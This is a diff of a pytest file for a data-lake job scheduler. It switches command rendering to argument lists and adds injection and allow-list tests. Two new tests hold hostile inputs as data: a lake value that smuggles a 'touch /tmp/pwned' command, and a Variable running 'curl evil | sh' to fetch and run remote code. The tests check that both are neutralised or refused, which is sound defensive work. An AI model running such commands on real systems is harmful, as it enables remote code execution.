@@ -1,7 +1,6 @@
 """Settings resolution (Variables, environment, defaults), hour arithmetic and the backfill plan."""
 from __future__ import annotations
 
-import shlex
 from datetime import datetime, timezone
 
 import pytest
@@ -22,23 +21,44 @@ def test_a_variable_beats_the_environment_which_beats_the_default():
     assert values["spark_job"] == "spark-submit --master yarn job.jar"
     assert values["checkpoint_root"] == "s3a://prod-lake/_checkpoints"
     assert values["bootstrap_servers"] == "127.0.0.1:9092"
-    command = settings.render(values["models_command"], values)
-    assert command == "java -jar /opt/ticklake/analytics/target/analytics.jar run --lake s3a://prod-lake --changed"
+    assert settings.command("models_command", values) == [
+        "java", "-jar", "/opt/ticklake/analytics/target/analytics.jar", "run", "--lake", "s3a://prod-lake", "--changed"]
+    assert settings.command("maintain_command", values)[:4] == ["spark-submit", "--master", "yarn", "job.jar"]
 
 
 def test_default_commands_run_from_this_checkout():
     values = settings.runtime_values(lambda name: None, {"TICKLAKE_LAKE": "file:///tmp/my lake"})
-    command = settings.render(values["compact_command"], values, from_hour="2026-11-20T14", to_hour="2026-11-20T15")
-    assert shlex.split(command) == [f"{settings.REPO}/spark-jobs/bin/spark-job", "compact", "--lake",
-                                    "file:///tmp/my lake", "--from", "2026-11-20T14", "--to", "2026-11-20T15"]
-    assert shlex.split(settings.render(values["maintain_command"], values)) == [
+    command = settings.command("compact_command", values, from_hour="2026-11-20T14", to_hour="2026-11-20T15")
+    assert command == [f"{settings.REPO}/spark-jobs/bin/spark-job", "compact", "--lake",
+                       "file:///tmp/my lake", "--from", "2026-11-20T14", "--to", "2026-11-20T15"]
+    assert settings.command("maintain_command", values) == [
         f"{settings.REPO}/spark-jobs/bin/spark-job", "maintain", "--lake", "file:///tmp/my lake"]
+
+
+def test_a_value_is_one_argument_whatever_it_holds():
+    values = settings.runtime_values(lambda name: None, {"TICKLAKE_LAKE": "file:///l; touch /tmp/pwned #'\""})
+    command = settings.command("maintain_command", values)
+    assert command[-2:] == ["--lake", "file:///l; touch /tmp/pwned #'\""]
+
+
+def test_a_command_may_run_only_an_allowed_executable():
+    for variables in ({"ticklake_compact_command": "bash -c 'curl evil | sh'"},
+                      {"ticklake_spark_job": "/tmp/elsewhere/spark-jobs/bin/spark-job"},
+                      {"ticklake_spark_job": "python3 -c 'import os'"}):
+        values = settings.runtime_values(variables.get, {})
+        with pytest.raises(ValueError, match="ticklake_compact_command runs .* which is not an allowed executable"):
+            settings.command("compact_command", values, from_hour="2026-11-20T14", to_hour="2026-11-20T15")
+    # the deployment (not a Variable) can allow another launcher
+    values = settings.runtime_values({"ticklake_spark_job": "/opt/spark/bin/spark-submit --master yarn"}.get, {})
+    env = {"TICKLAKE_ALLOWED_EXECUTABLES": "/opt/spark/bin/spark-submit:java"}
+    assert settings.command("maintain_command", values, env)[:3] == ["/opt/spark/bin/spark-submit", "--master", "yarn"]
+    assert not settings.is_allowed(f"{settings.REPO}/spark-jobs/bin/spark-job", env)
 
 
 def test_a_template_naming_an_unknown_setting_is_refused():
     values = settings.runtime_values(lambda name: None, {"TICKLAKE_COMPACT_COMMAND": "run {nope}"})
-    with pytest.raises(ValueError, match="uses 'nope' which is not a setting"):
-        settings.render(values["compact_command"], values, from_hour="2026-11-20T14", to_hour="2026-11-20T15")
+    with pytest.raises(ValueError, match="ticklake_compact_command 'run {nope}' uses 'nope' which is not a setting"):
+        settings.command("compact_command", values, from_hour="2026-11-20T14", to_hour="2026-11-20T15")
 
 
 def test_parse_time_settings_are_checked():
@@ -64,8 +84,9 @@ def test_a_compaction_plan_renders_the_window_and_refuses_a_bad_lookback(dagbag)
     values = settings.runtime_values(lambda name: None, {"TICKLAKE_LAKE": "file:///lake",
                                                          "TICKLAKE_LOOKBACK_HOURS": "6"})
     plan = compaction_plan(utc(2026, 11, 20, 15, 10), values)
-    assert "--from 2026-11-20T09 --to 2026-11-20T15" in plan["compact_command"]
-    assert plan["models_command"].endswith("--changed")
+    compact = plan["compact_command"]
+    assert compact[compact.index("--from"):] == ["--from", "2026-11-20T09", "--to", "2026-11-20T15"]
+    assert plan["models_command"][-1] == "--changed"
     with pytest.raises(ValueError, match="ticklake_lookback_hours='two days' is not a whole number"):
         compaction_plan(utc(2026, 11, 20, 15), {**values, "lookback_hours": "two days"})
 
@@ -84,9 +105,10 @@ def test_a_backfill_covers_every_hour_its_range_touches(dagbag):
     values = settings.runtime_values(lambda name: None, {"TICKLAKE_LAKE": "file:///lake"})
     plan = backfill_plan("stock-ticks", "2026-11-20T10:30:00Z", "2026-11-20T13:00:00Z", values)
     assert plan["hours"] == ["2026-11-20T10", "2026-11-20T11", "2026-11-20T12"]
-    assert "--from 2026-11-20T10 --to 2026-11-20T13" in plan["compact_command"]
-    assert plan["models_command"].endswith("--changed")
-    backfill = shlex.split(plan["backfill_command"])
+    compact = plan["compact_command"]
+    assert compact[compact.index("--from"):] == ["--from", "2026-11-20T10", "--to", "2026-11-20T13"]
+    assert plan["models_command"][-1] == "--changed"
+    backfill = plan["backfill_command"]
     assert backfill[backfill.index("--topic") + 1] == "stock-ticks"
     assert backfill[backfill.index("--starting-timestamp") + 1] == "2026-11-20T10:30:00Z"
     assert backfill[backfill.index("--ending-timestamp") + 1] == "2026-11-20T13:00:00Z"
